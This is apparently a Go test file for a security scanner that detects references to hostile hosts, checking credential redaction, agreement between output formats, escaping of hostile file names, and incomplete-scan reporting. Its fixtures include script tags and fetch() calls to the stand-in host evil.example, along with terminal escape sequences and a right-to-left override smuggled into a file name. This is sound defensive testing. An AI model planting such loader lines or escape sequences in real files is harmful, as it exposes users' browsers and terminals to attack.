package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing"
)

// TestNoCredentialInAnyOutput: a credential in a resource, in scanned code and in the value of
// CLOUDFLARE_API_TOKEN (echoed back inside a URL) appears in no output of any command.
func TestNoCredentialInAnyOutput(t *testing.T) {
	const token = "cftok-9a8b7c6d5e4f3a2b"
	t.Setenv("CLOUDFLARE_API_TOKEN", token)
	dir := t.TempDir()
	files := map[string]string{
		"index.html": `<script src="https://evil.example/x.js?token=SECRET123"></script>` + "\n" +
			`<script src="https://cdn.example/y.js?k=` + token + `"></script>` + "\n" +
			`<img src="https://user:hunter2pw@img.example/p.png">` + "\n",
		"alerts.txt": "https://evil.example/x.js?token=SECRET123\nhttps://cdn.example/y.js?k=" + token + "\n",
	}
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	secrets := []string{"SECRET123", token, "hunter2pw"}
	commands := [][]string{
		{"scan", "-r", "https://evil.example/x.js?token=SECRET123", "-r", "https://cdn.example/y.js?k=" + token, "-r", "https://user:hunter2pw@gone.example/", dir},
		{"analyze", filepath.Join(dir, "index.html")},
		{"inventory", "--against", filepath.Join(dir, "alerts.txt"), dir},
	}
	for _, args := range commands {
		for _, format := range []string{"text", "json", "sarif", "github"} {
			t.Run(args[0]+"/"+format, func(t *testing.T) {
				summary := filepath.Join(t.TempDir(), "summary.md")
				var stdout, stderr bytes.Buffer
				full := append(slices.Clone(args[:1]), "--format", format, "--summary", summary)
				full = append(full, args[1:]...)
				if code := run(context.Background(), full, strings.NewReader(""), &stdout, &stderr); code == 2 {
					t.Fatalf("run(%q) = 2: %s", full, stderr.String())
				}
				md, err := os.ReadFile(summary)
				if err != nil {
					t.Fatal(err)
				}
				for _, out := range []struct{ name, text string }{{"stdout", stdout.String()}, {"stderr", stderr.String()}, {"summary", string(md)}} {
					for _, s := range secrets {
						if strings.Contains(out.text, s) {
							t.Errorf("%s %s: %s holds %q", args[0], format, out.name, s)
						}
					}
				}
				// What each command must report, so that the run above is known to have found it.
				want := map[string]string{"scan": "evil.example", "analyze": "evil.example", "inventory": "img.example"}[args[0]]
				if !strings.Contains(stdout.String()+string(md), want) {
					t.Errorf("%s %s: %s is nowhere in the output: did the run find anything?", args[0], format, want)
				}
			})
		}
	}
}

// TestFormatsAgree: text, JSON, SARIF and annotations of one scan carry the same findings, at
// the same paths and lines, and JSON and SARIF the same fingerprints.
func TestFormatsAgree(t *testing.T) {
	shop := filepath.Join(repoRoot(t), "testdata", "example-shop")
	out := func(format string) string {
		var stdout, stderr bytes.Buffer
		run(context.Background(), []string{"scan", "--format", format, "-f", filepath.Join(shop, "alert.txt"), "-r", "https://user:pw@nowhere.example/?token=1", shop},
			strings.NewReader(""), &stdout, &stderr)
		if stderr.Len() > 0 {
			t.Fatalf("scan --format %s: %s", format, stderr.String())
		}
		return stdout.String()
	}
	var js struct {
		Findings []struct {
			Path        string `json:"path"`
			Line        int    `json:"line"`
			Fingerprint string `json:"fingerprint"`
		} `json:"findings"`
	}
	if err := json.Unmarshal([]byte(out("json")), &js); err != nil {
		t.Fatal(err)
	}
	var sf struct {
		Runs []struct {
			Results []struct {
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI string }    `json:"artifactLocation"`
						Region           struct{ StartLine int } `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
				PartialFingerprints map[string]string `json:"partialFingerprints"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal([]byte(out("sarif")), &sf); err != nil {
		t.Fatal(err)
	}
	var jsonPlaces, sarifPlaces, jsonFPs, sarifFPs, textPlaces, githubPlaces []string
	for _, f := range js.Findings {
		jsonFPs = append(jsonFPs, f.Fingerprint)
		if f.Path != "no file associated with this alert" {
			jsonPlaces = append(jsonPlaces, f.Path+":"+itoa(f.Line))
		}
	}
	for _, r := range sf.Runs[0].Results {
		sarifFPs = append(sarifFPs, r.PartialFingerprints["shieldscan/v1"])
		loc := r.Locations[0].PhysicalLocation
		if !strings.HasPrefix(loc.ArtifactLocation.URI, "no%20file") {
			sarifPlaces = append(sarifPlaces, loc.ArtifactLocation.URI+":"+itoa(loc.Region.StartLine))
		}
	}
	for _, m := range regexp.MustCompile(`(?m)^(\S+):(\d+):\d+: `).FindAllStringSubmatch(out("text"), -1) {
		textPlaces = append(textPlaces, m[1]+":"+m[2])
	}
	for _, m := range regexp.MustCompile(`(?m)^::\w+ .*file=([^,]+),line=(\d+)`).FindAllStringSubmatch(out("github"), -1) {
		githubPlaces = append(githubPlaces, m[1]+":"+m[2])
	}
	if len(jsonPlaces) < 4 {
		t.Fatalf("only %d located findings in JSON: %q", len(jsonPlaces), jsonPlaces)
	}
	for _, s := range [][]string{jsonPlaces, sarifPlaces, textPlaces, githubPlaces, jsonFPs, sarifFPs} {
		slices.Sort(s)
	}
	for name, got := range map[string][]string{"SARIF": sarifPlaces, "text": textPlaces, "annotations": githubPlaces} {
		if !slices.Equal(jsonPlaces, got) {
			t.Errorf("%s places %q, JSON %q", name, got, jsonPlaces)
		}
	}
	if !slices.Equal(jsonFPs, sarifFPs) {
		t.Errorf("SARIF fingerprints %q, JSON %q", sarifFPs, jsonFPs)
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

// TestHostileNameAndContent: an escape sequence in a file recolours or erases nothing, and a
// file name with a newline does not split its path:line:col line (issue 12, item 4).
func TestHostileNameAndContent(t *testing.T) {
	dir := t.TempDir()
	name := "a\nb\x1b[31m\u202e.js"
	content := "\x1b[2J\x1b[1A fetch('https://evil.example/x') \x1b]0;owned\x07 \u202e\n"
	if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
		t.Skipf("this file system refuses the name: %v", err)
	}
	for _, format := range []string{"text", "github"} {
		var stdout, stderr bytes.Buffer
		summary := filepath.Join(t.TempDir(), "s.md")
		run(context.Background(), []string{"scan", "--format", format, "--summary", summary, "-r", "evil.example", dir}, strings.NewReader(""), &stdout, &stderr)
		md, _ := os.ReadFile(summary)
		for _, out := range []string{stdout.String(), string(md)} {
			if strings.ContainsAny(out, "\x1b\x07\u202e") {
				t.Errorf("%s output holds a raw control:\n%q", format, out)
			}
		}
		if format == "text" && !regexp.MustCompile(`(?m)^a\\x0ab\\x1b\[31m\\u202e\.js:1:\d+: note: declared-reference`).MatchString(stdout.String()) {
			t.Errorf("text output does not show the escaped path on one line:\n%s", stdout.String())
		}
	}
}

// TestCorruptObjectIncomplete: a history scan that meets a corrupt object writes its report,
// says in every format that it is incomplete, and exits 2 whatever it found (issue 12, item 3).
func TestCorruptObjectIncomplete(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	os.WriteFile("a.js", []byte("fetch('https://evil.example/a')\n"), 0o644)
	if err := gitcommit([]string{"add loader"}); err != nil {
		t.Fatal(err)
	}
	os.WriteFile("b.js", []byte("var x = 1;\n"), 0o644)
	if err := gitcommit([]string{"add b"}); err != nil {
		t.Fatal(err)
	}
	// b.js's blob, loose: keep the zlib header, zero the rest.
	h := plumbing.ComputeHash(plumbing.BlobObject, []byte("var x = 1;\n")).String()
	obj := filepath.Join(".git", "objects", h[:2], h[2:])
	data, err := os.ReadFile(obj)
	if err != nil {
		t.Skipf("b.js's blob is not a loose object: %v", err)
	}
	for i := 2; i < len(data); i++ {
		data[i] = 0
	}
	os.Chmod(obj, 0o644)
	if err := os.WriteFile(obj, data, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"text", "json", "sarif", "github"} {
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), []string{"scan", "--history", "--format", format, "-r", "evil.example", "."}, strings.NewReader(""), &stdout, &stderr)
		if code != 2 {
			t.Errorf("--format %s: exit %d, want 2 (stderr %s)", format, code, stderr.String())
		}
		if !strings.Contains(stdout.String(), "incomplete") || !strings.Contains(stderr.String(), "incomplete scan") {
			t.Errorf("--format %s: the report or stderr does not say incomplete:\n%s\n%s", format, stdout.String(), stderr.String())
		}
		if !strings.Contains(stdout.String(), "evil.example") {
			t.Errorf("--format %s: the report lost its findings:\n%s", format, stdout.String())
		}
	}
}
